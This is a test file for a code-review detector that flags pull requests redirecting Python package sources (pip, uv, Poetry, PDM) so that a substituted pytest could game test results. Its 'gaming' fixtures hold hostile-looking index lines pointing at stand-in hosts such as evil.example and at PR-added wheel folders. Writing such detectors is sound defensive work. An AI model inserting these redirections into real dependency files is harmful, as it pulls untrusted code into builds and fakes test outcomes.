// Where pip, uv, Poetry and PDM fetch packages: pip gives no index priority (the highest version on
// any index wins), so an index host or a find-links folder the PR adds can serve its own pytest.
import { describe, expect, it } from 'vitest';
import {
  packageIndexRecord,
  pipConfRecords,
} from '../../../src/core/changes/toolchain/python-index.js';
import { isDependencyFile, toolchainAnomalies } from '../../../src/core/changes/toolchain-deps.js';
import type { Severity } from '../../../src/core/model/anomaly.js';

type Row = [label: string, path: string, base: string | null, head: string, Severity | null];

const REQ = 'pytest==8.3.0\n';
const PYPROJECT = '[project]\nname = "app"\nversion = "1.0"\n';

function severity(path: string, base: string | null, head: string): Severity | null {
  const found = toolchainAnomalies(path, base, head).filter((a) =>
    a.detail.startsWith('test toolchain dependency package-index:'),
  );
  expect(found.length).toBeLessThanOrEqual(1);
  return found[0]?.severity ?? null;
}

describe('package index changes', () => {
  it.each<Row>([
    // gaming: a source the PR picks
    [
      'gaming: --find-links to a folder of the PR',
      'requirements-dev.txt',
      REQ,
      `--find-links ./wheels\n${REQ}`,
      'critical',
    ],
    ['gaming: -f=folder', 'requirements.txt', REQ, `-f=wheels/\n${REQ}`, 'critical'],
    [
      'gaming: --find-links file: URL',
      'requirements.txt',
      REQ,
      `--find-links file:///tmp/w\n${REQ}`,
      'critical',
    ],
    [
      'gaming: --extra-index-url to a new host',
      'requirements.txt',
      REQ,
      `--extra-index-url https://evil.example/simple\n${REQ}`,
      'critical',
    ],
    [
      'gaming: -i to a new host',
      'requirements/test.txt',
      REQ,
      `-i https://pkgs.example/simple\n${REQ}`,
      'critical',
    ],
    [
      'gaming: index host swapped',
      'requirements.txt',
      `--extra-index-url https://corp.example/simple\n${REQ}`,
      `--extra-index-url https://corp-example.dev/simple\n${REQ}`,
      'critical',
    ],
    [
      'gaming: pip.conf extra index',
      'pip.conf',
      '[global]\ntimeout = 60\n',
      '[global]\nextra-index-url =\n    https://evil.example/simple\n',
      'critical',
    ],
    [
      'gaming: pip.ini find-links',
      'pip.ini',
      null,
      '[install]\nfind-links = ./wheels\n',
      'critical',
    ],
    [
      'gaming: uv.toml index-url',
      'uv.toml',
      null,
      'index-url = "https://evil.example/simple"\n',
      'critical',
    ],
    [
      'gaming: uv.toml [[index]]',
      'uv.toml',
      '',
      '[[index]]\nname = "x"\nurl = "https://evil.example/simple"\n',
      'critical',
    ],
    [
      'gaming: [tool.uv] find-links',
      'pyproject.toml',
      PYPROJECT,
      `${PYPROJECT}\n[tool.uv]\nfind-links = ["./wheels"]\n`,
      'critical',
    ],
    [
      'gaming: [[tool.uv.index]]',
      'pyproject.toml',
      PYPROJECT,
      `${PYPROJECT}\n[[tool.uv.index]]\nname = "x"\nurl = "https://evil.example/simple"\n`,
      'critical',
    ],
    [
      'gaming: [[tool.poetry.source]]',
      'pyproject.toml',
      PYPROJECT,
      `${PYPROJECT}\n[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example/simple"\npriority = "primary"\n`,
      'critical',
    ],
    [
      'gaming: [[tool.pdm.source]]',
      'pyproject.toml',
      PYPROJECT,
      `${PYPROJECT}\n[[tool.pdm.source]]\nname = "x"\nurl = "./wheels"\n`,
      'critical',
    ],
    // honest: public or known hosts, moves, the job's own variables, pins only
    ['honest: requirements pins only', 'requirements.txt', REQ, 'pytest==8.3.5\n', null],
    [
      'honest: index set to PyPI',
      'requirements.txt',
      REQ,
      `--index-url https://pypi.org/simple\n${REQ}`,
      'warning',
    ],
    [
      'honest: index line moved',
      'requirements.txt',
      `--extra-index-url https://corp.example/simple\n${REQ}`,
      `${REQ}--extra-index-url https://corp.example/simple\n`,
      null,
    ],
    [
      'honest: a path on the host base already used',
      'requirements.txt',
      `--extra-index-url https://corp.example/simple\n${REQ}`,
      `--extra-index-url https://corp.example/pypi/simple\n${REQ}`,
      'warning',
    ],
    [
      'honest: index from a job variable',
      'requirements.txt',
      REQ,
      `--extra-index-url \${CORP_INDEX_URL}\n${REQ}`,
      'warning',
    ],
    [
      'honest: --trusted-host',
      'requirements.txt',
      REQ,
      `--trusted-host corp.example\n${REQ}`,
      'warning',
    ],
    [
      'honest: index removed',
      'requirements.txt',
      `--extra-index-url https://corp.example/simple\n${REQ}`,
      REQ,
      null,
    ],
    [
      'honest: pip.conf timeout',
      'pip.conf',
      '[global]\ntimeout = 60\n',
      '[global]\ntimeout = 120\n',
      null,
    ],
    [
      'honest: uv.toml cache setting',
      'uv.toml',
      'cache-dir = "/tmp/a"\n',
      'cache-dir = "/tmp/b"\n',
      null,
    ],
    [
      'honest: pyproject version bump',
      'pyproject.toml',
      PYPROJECT,
      PYPROJECT.replace('1.0', '1.1'),
      null,
    ],
  ])('%s', (_label, path, base, head, expected) => {
    expect(severity(path, base, head)).toBe(expected);
  });

  it('reads pip.conf, pip.ini and uv.toml as dependency files', () => {
    expect(['pip.conf', 'pip.ini', 'uv.toml', 'a/uv.toml'].every(isDependencyFile)).toBe(true);
  });

  it('drops credentials from the spec shown in the detail', () => {
    const found = packageIndexRecord(
      '--extra-index-url',
      'https://user:s3cret@corp.example/simple',
    );
    expect(found.spec).toBe('https://corp.example/simple');
    const [anomaly] = toolchainAnomalies(
      'requirements.txt',
      REQ,
      `--extra-index-url https://user:s3cret@evil.example/simple\n${REQ}`,
    );
    expect(anomaly?.detail).not.toContain('s3cret');
    expect(anomaly?.detail).toContain('evil.example, outside the registry');
  });

  it('reads pip.conf continuation lines and every section', () => {
    const found = pipConfRecords(
      '[global]\nextra-index-url =\n  https://a.example/simple\n  https://b.example/simple\ntimeout = 1\n[install]\nfind-links = ./w\n',
    );
    expect(found.map((r) => r.spec)).toEqual([
      'https://a.example/simple',
      'https://b.example/simple',
      './w',
    ]);
  });
});
